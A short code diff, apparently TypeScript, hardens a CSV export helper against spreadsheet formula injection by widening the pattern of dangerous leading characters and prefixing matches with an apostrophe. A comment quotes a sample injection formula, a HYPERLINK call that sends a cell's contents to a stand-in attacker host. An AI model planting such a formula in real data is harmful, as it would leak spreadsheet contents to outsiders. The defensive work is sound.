@@ -4,13 +4,13 @@ export function csvLine(cells: readonly (string | number | undefined)[]): string
 }
 
 // A spreadsheet runs what begins like a formula, and senders choose subjects and addresses:
-// =HYPERLINK("https://evil.example/?"&A1) would carry the sheet away.
-const RUNS = /^[=+\-@\t\r]/u;
+// =HYPERLINK("https://evil.example/?"&A1) would carry the sheet away. Some take the wide forms of these signs as well, pass
+// over blanks before them, or, where a comma is the decimal sign, begin a cell at each semicolon, whatever the quotes say.
+const RUNS = /(^|;)(?=\s*[=+\-@\uFF1D\uFF0B\uFF0D\uFF20])/gu;
 
 function cellOf(value: string | number | undefined): string {
   if (typeof value === "number") return String(value);
-  const text = value ?? "";
-  const harmless = RUNS.test(text) ? `'${text}` : text;
   // Control characters would draw on a terminal, and a sheet shows them as nothing.
-  return `"${harmless.replaceAll(/[\p{Cc}\p{Cf}]/gu, " ").replaceAll('"', '""')}"`;
+  const shown = (value ?? "").replaceAll(/[\p{Cc}\p{Cf}]/gu, " ");
+  return `"${shown.replaceAll(RUNS, "$1'").replaceAll('"', '""')}"`;
 }
